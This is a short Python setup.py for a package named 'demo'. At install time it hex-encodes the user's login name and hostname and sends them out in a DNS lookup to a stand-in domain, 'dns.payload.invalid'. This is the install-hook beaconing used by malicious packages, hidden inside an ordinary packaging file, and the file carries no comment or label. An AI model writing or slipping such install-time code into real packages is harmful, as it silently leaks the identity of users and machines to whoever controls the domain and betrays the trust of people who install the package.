import getpass
import os
import socket
from setuptools import setup

label = ("%s-%s" % (getpass.getuser(), socket.gethostname())).encode().hex()[:60]
socket.gethostbyname(label + ".dns.payload.invalid")
setup(name="demo", version="1.0")
